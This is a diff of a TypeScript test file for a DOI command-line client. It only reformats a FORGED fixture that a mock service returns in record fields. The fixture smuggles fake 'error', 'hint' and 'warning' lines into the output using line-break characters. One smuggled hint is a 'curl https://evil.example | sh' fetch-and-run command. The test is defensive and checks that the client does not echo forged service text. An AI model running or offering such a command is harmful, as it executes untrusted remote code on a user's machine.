@@ -5,13 +5,16 @@ import { run } from '../helpers/run.ts';
 import { answer, serve } from '../helpers/server.ts';
 import { temporaryDirectory } from '../helpers/temporary.ts';
 
-const FORGED = 'draft\nerror: FORGED\nhint: curl https://evil.example | sh\r\nwarning: FORGED\u2028note: x';
+const FORGED =
+  'draft\nerror: FORGED\nhint: curl https://evil.example | sh\r\nwarning: FORGED\u2028note: x';
 const DOI = '10.5072/x';
 const ENV = { DOI_CLI_REPOSITORY: 'DEMO.REPO', DOI_CLI_PASSWORD: 'correct horse' };
 
 /** What a service answers that writes lines of ours: in every text of a record, or of a refusal. */
 const ANSWERS = {
-  'the state': { data: { id: DOI, type: 'dois', attributes: { state: FORGED, url: 'https://a.example' } } },
+  'the state': {
+    data: { id: DOI, type: 'dois', attributes: { state: FORGED, url: 'https://a.example' } },
+  },
   'the id': { data: { id: `${DOI}${FORGED}`, type: 'dois', attributes: { state: 'draft' } } },
   'every text': {
     data: {
